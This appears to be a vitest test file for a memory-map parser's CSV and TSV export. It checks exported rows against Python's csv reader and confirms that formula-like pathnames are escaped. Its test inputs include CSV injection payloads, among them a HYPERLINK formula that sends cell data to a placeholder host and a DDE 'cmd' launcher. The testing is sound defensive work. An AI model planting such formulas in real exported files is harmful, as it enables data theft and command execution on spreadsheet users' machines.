/**
 * CSV and TSV of the region table, read back by Python's csv module (an RFC 4180 reader that
 * shares nothing with src/) and checked cell by cell against the parsed regions.
 */
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { delimitedLines, formatHex, formatMapsLine, parseMaps, type RegionTable, type Separator } from '../../src/internal';
import { CORPUS } from '../cli/reference-maps';
import { unescapeDisplay } from '../fixtures/hostile/inert';
import { hostileMapsText, hostileSmapsText } from '../fixtures/hostile/names';

const FIXTURES = new URL('../fixtures/', import.meta.url).pathname;

/** Python's csv.reader over `text`: rows of cells. TSV read with no quoting at all. */
function pythonRows(text: string, separator: Separator): string[][] {
  const script =
    separator === ','
      ? 'import csv,sys,json,io; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'
      : 'import csv,sys,json,io; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=""), delimiter="\\t", quoting=csv.QUOTE_NONE))))';
  return JSON.parse(execFileSync('python3', ['-c', script], { input: text, encoding: 'utf8', maxBuffer: 1 << 28 })) as string[][];
}

/** Names that start like a spreadsheet formula (OWASP CSV injection), and CSV's own specials. */
const FORMULA_NAMES = ['=HYPERLINK("http://x/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '/tmp/a,b"c', '/tmp/quote "q"', '=cmd|\' /C calc\'!A0'];

function formulaMapsText(): string {
  return FORMULA_NAMES.map((pathname, i) =>
    formatMapsLine({ begin: 0x10000n * BigInt(i + 1), end: 0x10000n * BigInt(i + 1) + 0x1000n, perms: 0b0101, offset: 0n, device: { major: 8, minor: 1 }, inode: 7n, pathname }),
  ).join('\n');
}

const INPUTS: { name: string; text: () => string }[] = [
  ...readdirSync(CORPUS)
    .filter((f) => /\.maps$/.test(f))
    .slice(0, 6)
    .map((f) => ({ name: f, text: () => readFileSync(join(CORPUS, f), 'utf8') })),
  ...['smaps/python-mapper.smaps', 'pmap/python-mapper.pmap-x.txt', 'gdb/python-mapper.gdb11-noperms.txt'].map((f) => ({
    name: f,
    text: () => readFileSync(join(FIXTURES, f), 'utf8'),
  })),
  { name: 'hostile maps', text: () => hostileMapsText({ badLines: true }) },
  { name: 'hostile smaps', text: () => hostileSmapsText() },
  { name: 'formula names', text: formulaMapsText },
];

/** Checks every record against the table: the columns, in order, from the regions themselves. */
function expectRecords(table: RegionTable, rows: string[][], rowOrder: number[]): void {
  const header = rows[0];
  expect(header.slice(0, 10)).toEqual(['line', 'begin', 'end', 'size_bytes', 'perms', 'offset', 'device', 'inode', 'kind', 'pathname']);
  expect(rows.length - 1).toBe(rowOrder.length);
  rowOrder.forEach((i, k) => {
    const cells = rows[k + 1];
    const r = table.get(i);
    expect(cells.length).toBe(header.length);
    expect(cells[0]).toBe(String(r.line));
    expect(cells[1]).toBe(formatHex(r.begin));
    expect(cells[2]).toBe(formatHex(r.end));
    expect(BigInt(cells[3])).toBe(r.end - r.begin);
    expect(cells[4]).toBe(table.known.perms ? r.permissions.text : '');
    expect(cells[5] === '' ? null : BigInt(cells[5])).toBe(table.known.offset ? r.offset : null);
    const dev = /^([0-9a-f]{2,}):([0-9a-f]{2,})$/.exec(cells[6]);
    expect(dev === null ? null : { major: parseInt(dev[1], 16), minor: parseInt(dev[2], 16) }).toEqual(table.known.device ? r.device : null);
    expect(cells[7] === '' ? null : BigInt(cells[7])).toBe(table.known.inode ? r.inode : null);
    expect(cells[8]).toBe(r.kind);
    // The name: a formula start gets a ', the rest reads back through the display's escapes.
    const name = cells[9];
    expect(/^[=+\-@]/.test(name)).toBe(false);
    expect(name === '' ? null : unescapeDisplay(name.replace(/^'(?=[=+\-@])/, ''))).toBe(r.pathname);
    const smaps = r.smaps;
    for (let c = 10; c < header.length; c++) {
      const key = header[c];
      if (key === 'VmFlags') expect(cells[c]).toBe(smaps?.vmFlags?.join(' ') ?? '');
      else expect(cells[c]).toBe(smaps?.fields[key] === undefined ? '' : String(smaps.exactFields?.[key] ?? smaps.fields[key]));
    }
  });
}

describe('delimitedLines (CSV and TSV, read back by Python csv)', () => {
  for (const input of INPUTS) {
    for (const separator of [',', '\t'] as const) {
      it(`${separator === ',' ? 'CSV' : 'TSV'} of ${input.name}: every region, exactly`, () => {
        const table = parseMaps(input.text(), { fileName: input.name.split('/').pop() }).regions;
        expect(table.length).toBeGreaterThan(0);
        const text = [...delimitedLines(table, separator)].map((l) => l + (separator === ',' ? '\r\n' : '\n')).join('');
        // One line a record: no name keeps a raw line break.
        expect(text.split(separator === ',' ? '\r\n' : '\n').length - 1).toBe(table.length + 1);
        expectRecords(table, pythonRows(text, separator), Array.from({ length: table.length }, (_, i) => i));
      });
    }
  }

  it('writes the rows asked for, in their order (a filtered export)', () => {
    const table = parseMaps(hostileSmapsText()).regions;
    const rows = [5, 0, 3, table.length - 1];
    const text = [...delimitedLines(table, ',', rows)].join('\r\n') + '\r\n';
    expectRecords(table, pythonRows(text, ','), rows);
  });

  it('has a smaps column for every field key of the file, and none for plain maps', () => {
    const smaps = parseMaps(readFileSync(join(FIXTURES, 'smaps/python-mapper.smaps'), 'utf8')).regions;
    const header = delimitedLines(smaps, ',').next().value!.split(',');
    expect(header).toEqual(expect.arrayContaining(['Rss', 'Pss', 'Swap', 'VmFlags']));
    const maps = parseMaps(hostileMapsText()).regions;
    expect(delimitedLines(maps, ',').next().value!.split(',')).toHaveLength(10);
  });
});
